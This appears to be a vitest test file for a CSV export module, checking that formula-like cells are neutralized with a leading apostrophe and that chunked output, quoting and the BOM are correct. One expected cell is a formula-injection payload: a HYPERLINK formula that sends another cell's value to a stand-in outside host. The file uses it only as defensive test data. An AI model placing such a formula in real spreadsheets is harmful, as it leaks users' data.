// CSV neutralization: bug-18's exact cells, and what stays untouched.
import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvChunks, neutralizeCell, toCsv } from '../../src/export/csv.js';

const bugDir = resolve(__dirname, '../../../shared/bugcases/bug-18');

describe('neutralizeCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['plain', 'plain'],
    [' =x', ' =x'],
    ['', ''],
    ["'=already", "'=already"],
  ])('%j -> %j', (input, expected) => {
    expect(neutralizeCell(input)).toBe(expected);
  });
});

describe.skipIf(!existsSync(bugDir))('bug-18: formula injection in evidence rows', () => {
  // vitest runs a skipped describe's body to collect it: read only when the case exists.
  const rows = existsSync(bugDir)
    ? JSON.parse(readFileSync(resolve(bugDir, 'evidence-rows.json'), 'utf8')).rows
    : [];
  const columns = ['ticket', 'source', 'summary', 'reporter', 'grant_minutes', 'delta_minutes'].map(
    (key) => ({ key, header: key }),
  );
  const csv = toCsv(columns, rows).toString('utf8');
  const lines = csv.replace(/^\ufeff/, '').split('\n');

  it('puts the apostrophe inside the quotes of every dangerous text cell', () => {
    expect(csv).toContain('"\'=HYPERLINK(""https://example.invalid/c?d=""&B2,""Open runbook"")"');
    expect(csv).toContain('"\'+CHG0040017 emergency access"');
    expect(csv).toContain('"\'-2h extension approved by phone"');
    expect(csv).toContain('"\'@ops-oncall"');
    expect(csv).toContain('"\'\tTab-led note from import"');
    expect(csv).toContain('"\'\r=2+5"');
  });

  it('neutralizes the source string "-120" but leaves computed numbers alone', () => {
    expect(lines[3]).toBe(
      '"CHG0040019","servicenow","\'-2h extension approved by phone","Tomás Ibarra",120,"\'-120"',
    );
    expect(lines[1]).toMatch(/,240,-15$/);
    expect(lines[4]).toMatch(/,30,5$/);
    expect(lines[6]).toBe('"ACC-934","jira","Rotate DB password after use","Ana Silva",45,0');
  });

  it('writes a BOM, a header row and one line per row', () => {
    expect(csv.startsWith('\ufeff"ticket","source","summary"')).toBe(true);
    expect(lines.filter((l) => l !== '')).toHaveLength(1 + rows.length); // the \r cell holds a CR, no LF
  });
});

describe('csvChunks', () => {
  const columns = ['text', 'n'].map((key) => ({ key, header: key }));
  const rows = [
    { text: 'quote " and, comma', n: 1 },
    { text: 'line\nbreak and\r\nCRLF', n: -2.5 },
    { text: '=formula', n: null },
    { text: 'Tomás 😀', n: undefined },
    { text: '', n: 0 },
    { text: null, n: 7 },
  ];

  it('joins chunks of any size to the bytes of one call, BOM and header once', () => {
    const whole = Buffer.concat([...csvChunks(columns, rows, 1_000_000)]);
    expect(whole.toString('utf8')).toBe(
      '\ufeff"text","n"\n"quote "" and, comma",1\n"line\nbreak and\r\nCRLF",-2.5\n' +
        '"\'=formula",\n"Tomás 😀",\n"",0\n,7\n',
    );
    for (const size of [1, 2, 5]) {
      const chunks = [...csvChunks(columns, rows, size)];
      expect(chunks).toHaveLength(Math.ceil(rows.length / size));
      expect(Buffer.concat(chunks).equals(whole)).toBe(true);
    }
    expect(toCsv(columns, rows).equals(whole)).toBe(true);
  });

  it('writes the BOM and header for no rows, in one chunk', () => {
    expect([...csvChunks(columns, [])].map((c) => c.toString('utf8'))).toEqual([
      '\ufeff"text","n"\n',
    ]);
  });
});
